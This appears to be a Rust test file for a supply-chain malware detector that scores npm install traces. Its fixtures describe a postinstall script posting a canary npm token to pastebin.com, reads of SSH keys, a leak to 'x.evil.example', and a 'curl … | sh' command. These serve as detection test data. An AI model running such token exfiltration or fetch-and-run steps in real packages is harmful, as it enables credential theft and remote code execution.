//! Verdicts from whole traces: decisive findings, additive scoring, run states, and
//! benign look-alikes that must stay benign.
#![allow(clippy::unwrap_used)]

use std::path::PathBuf;

use airlock_events::{Confidence, Finding, Severity, Verdict};
use airlock_rules::fixtures::parse_fixture;
use airlock_rules::{FailOn, Judgement, Ruleset, RunFacts};

fn rules() -> &'static Ruleset {
    static RULES: std::sync::OnceLock<Ruleset> = std::sync::OnceLock::new();
    RULES.get_or_init(|| {
        let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../rules");
        Ruleset::load_dir(&dir).unwrap_or_else(|e| panic!("{}", airlock_rules::Diagnostics(&e)))
    })
}

fn judge(events: &str) -> Judgement {
    let (h, recs) = parse_fixture(None, events).unwrap();
    rules().judge(&h, recs)
}

const LC: &str = r#""proc":{"pid":301,"ppid":300,"exe":"node","lifecycle":"postinstall","chain":["npm install","sh -c node install.js","node install.js"]}"#;

fn lc(line: &str) -> String {
    line.replace("LC", LC)
}

#[test]
fn benign_lookalikes_stay_benign() {
    // npm's own registry traffic and config reads; an esbuild-style prebuilt download
    // into the package dir; node-gyp; husky writing a hook; reading ~/.npmrc.
    let t = lc(r#"
{"type":"phase.start","name":"install","command":["npm","install"]}
{"type":"file.open","path":"/home/runner/.npmrc","proc":{"pid":10,"exe":"node","chain":["npm install"]}}
{"type":"net.connect","addr":"198.18.0.2","port":443,"name":"registry.npmjs.org","proc":{"pid":10,"exe":"node","chain":["npm install"]}}
{"type":"http.request","url":"https://registry.npmjs.org/esbuild","headers":[["authorization","Bearer npm_CANARYfixture0000000000000000000"]]}
{"type":"canary.leaked","destination":"https://registry.npmjs.org/esbuild","encoding":"plain"}
{"type":"process.exec","path":"/bin/sh","argv":["sh","-c","node install.js"],"proc":{"pid":300,"ppid":10,"exe":"sh","lifecycle":"postinstall"}}
{"type":"process.exec","path":"/usr/bin/node","argv":["node","install.js"],LC}
{"type":"dns.query","name":"github.com"}
{"type":"net.connect","addr":"198.18.0.3","port":443,"name":"github.com",LC}
{"type":"http.request","url":"https://github.com/evanw/esbuild/releases/download/v0.19.0/linux-x64.tgz"}
{"type":"file.open","path":"/home/runner/project/node_modules/fixture-pkg/bin/esbuild","flags":"O_WRONLY|O_CREAT","write":true,"create":true,LC}
{"type":"file.chmod","path":"/home/runner/project/node_modules/fixture-pkg/bin/esbuild","mode":493,LC}
{"type":"process.exec","path":"/home/runner/project/node_modules/fixture-pkg/bin/esbuild","argv":["esbuild","--version"],"proc":{"pid":302,"ppid":301,"exe":"esbuild","lifecycle":"postinstall"}}
{"type":"process.exec","path":"/usr/bin/make","argv":["make","-C","build"],"proc":{"pid":303,"ppid":301,"exe":"make","lifecycle":"postinstall"}}
{"type":"file.open","path":"/home/runner/project/.git/hooks/pre-commit","flags":"O_WRONLY|O_CREAT","write":true,"create":true,LC}
{"type":"file.open","path":"/home/runner/.npmrc",LC}
{"type":"phase.end","name":"install","status":"ok","exit_code":0,"duration_ms":5000}
"#);
    let j = judge(&t);
    assert_eq!(j.verdict, Verdict::Benign, "{:#?}", j.findings);
    assert!(j.score < 3.0, "{}", j.score);
    // The weak signals are still reported.
    assert!(j.findings.iter().any(|f| f.rule == "git-hook-write"));
    assert!(j.findings.iter().any(|f| f.rule == "package-token-read"));
}

#[test]
fn token_stealer_is_malicious_with_evidence_chain() {
    let t = lc(r#"
{"type":"file.open","path":"/home/runner/.npmrc",LC}
{"type":"net.connect","addr":"198.18.0.9","port":443,"name":"pastebin.com",LC}
{"type":"http.request","method":"POST","url":"https://pastebin.com/api/api_post.php","body":"api_paste_code=//registry.npmjs.org/:_authToken=npm_CANARYfixture0000000000000000000"}
{"type":"canary.leaked","destination":"https://pastebin.com/api/api_post.php","encoding":"plain","carrier_seq":2}
"#);
    let j = judge(&t);
    assert_eq!(j.verdict, Verdict::Malicious);
    let f = &j.findings[0];
    assert_eq!(f.rule, "canary-leaked");
    assert!(f.decisive);
    assert!(j.findings.iter().any(|f| f.rule == "exfil-service-contact"));
    let conn = j
        .findings
        .iter()
        .find(|f| f.rule == "exfil-service-contact")
        .unwrap();
    let chain = conn
        .evidence
        .iter()
        .find_map(|e| e.proc.as_ref())
        .map(|p| p.chain.join(" → "));
    assert_eq!(
        chain.as_deref(),
        Some("npm install → sh -c node install.js → node install.js")
    );
    // The message says what happened to what; the chain is in the evidence, not
    // repeated in the message.
    assert_eq!(
        conn.message,
        "contacted data-drop/tunnel service pastebin.com"
    );
}

#[test]
fn weak_signals_add_up() {
    // Each alone stays below "malicious"; together they cross it.
    let one = lc(r#"{"type":"file.open","path":"/home/runner/.ssh/id_rsa",LC}"#);
    assert_eq!(judge(&one).verdict, Verdict::Suspicious);
    let two = lc(r#"
{"type":"file.open","path":"/home/runner/.ssh/id_rsa",LC}
{"type":"dns.query","name":"x.oast.fun"}
"#);
    let j = judge(&two);
    assert_eq!(j.verdict, Verdict::Malicious, "{j:#?}");
    assert!(!j.findings.iter().any(|f| f.decisive));
}

#[test]
fn timeouts_errors_and_incomplete_traces_are_never_benign() {
    let timed =
        r#"{"type":"phase.end","name":"install","status":"timed-out","duration_ms":600000}"#;
    let j = judge(timed);
    assert_eq!(j.verdict, Verdict::TimedOut);
    assert_eq!(j.timed_out, vec!["install".to_string()]);
    let err = r#"{"type":"phase.end","name":"install","status":"error","duration_ms":1}"#;
    assert_eq!(judge(err).verdict, Verdict::Error);
    let incomplete =
        "{\"type\":\"note\",\"message\":\"x\"}\n{\"record\":\"footer\",\"complete\":false}";
    let j = judge(incomplete);
    assert_eq!(j.verdict, Verdict::Error);
    assert!(!j.complete);
    // No footer at all.
    let (h, mut recs) = parse_fixture(None, r#"{"type":"note","message":"x"}"#).unwrap();
    recs.retain(|r| !matches!(r, airlock_events::Record::Footer(_)));
    let j = rules().judge(&h, recs);
    assert_eq!(j.verdict, Verdict::Error);
    assert!(
        j.notes.iter().any(|n| n.contains("no footer")),
        "{:?}",
        j.notes
    );
    // A decisive finding still wins over a timeout.
    let both = format!(
        "{}\n{}",
        timed, r#"{"type":"canary.leaked","destination":"dns:x.evil.example"}"#
    );
    assert_eq!(judge(&both).verdict, Verdict::Malicious);
}

#[test]
fn scoring_and_fail_on() {
    let cfg = rules().verdict_config().clone();
    let f = |rule: &str, s, c, decisive| Finding {
        rule: rule.into(),
        severity: s,
        confidence: c,
        message: String::new(),
        tags: vec![],
        decisive,
        evidence: vec![],
    };
    let facts = RunFacts {
        complete: true,
        footer_seen: true,
        ..Default::default()
    };
    let (v, score, _) = cfg.decide(&[], &facts);
    assert_eq!((v, score), (Verdict::Benign, 0.0));
    // The same rule counts once.
    let twice = [
        f("a", Severity::High, Confidence::High, false),
        f("a", Severity::High, Confidence::High, false),
    ];
    assert_eq!(
        cfg.score(&twice),
        cfg.weight(Severity::High, Confidence::High)
    );
    let (v, _, _) = cfg.decide(&[f("a", Severity::Low, Confidence::Low, true)], &facts);
    assert_eq!(v, Verdict::Malicious);
    assert!(FailOn::Malicious.fails(Verdict::Malicious));
    assert!(!FailOn::Malicious.fails(Verdict::Suspicious));
    assert!(FailOn::Suspicious.fails(Verdict::Suspicious));
    assert!(FailOn::Suspicious.fails(Verdict::TimedOut));
    assert!(!FailOn::Suspicious.fails(Verdict::Benign));
    assert_eq!(FailOn::Malicious.exit_code(Verdict::Error), 2);
    assert_eq!(FailOn::Malicious.exit_code(Verdict::Malicious), 1);
    assert_eq!(FailOn::Malicious.exit_code(Verdict::Suspicious), 0);
    assert_eq!("suspicious".parse::<FailOn>(), Ok(FailOn::Suspicious));
}

#[test]
fn judge_reader_streams_jsonl() {
    let (h, recs) = parse_fixture(
        None,
        &lc(r#"{"type":"process.exec","argv":["sh","-c","curl -s http://x.example/a | sh"],LC}"#),
    )
    .unwrap();
    let mut buf = Vec::new();
    let mut w = airlock_events::TraceWriter::new(&mut buf);
    w.header(&h).unwrap();
    for r in recs {
        match r {
            airlock_events::Record::Event(e) => {
                w.event(e).unwrap();
            }
            airlock_events::Record::Footer(f) => w.footer(f).unwrap(),
            airlock_events::Record::Header(_) => {}
        }
    }
    let j = rules().judge_reader(&buf[..]).unwrap();
    assert_eq!(j.verdict, Verdict::Malicious);
    assert!(j.findings.iter().any(|f| f.rule == "fetch-pipe-shell"));
    assert_eq!(j.ruleset_hash, rules().hash());
    // A corrupt line ends the trace as incomplete.
    buf.extend_from_slice(b"{not json\n");
    let j = rules().judge_reader(&buf[..]).unwrap();
    assert!(!j.complete);
}
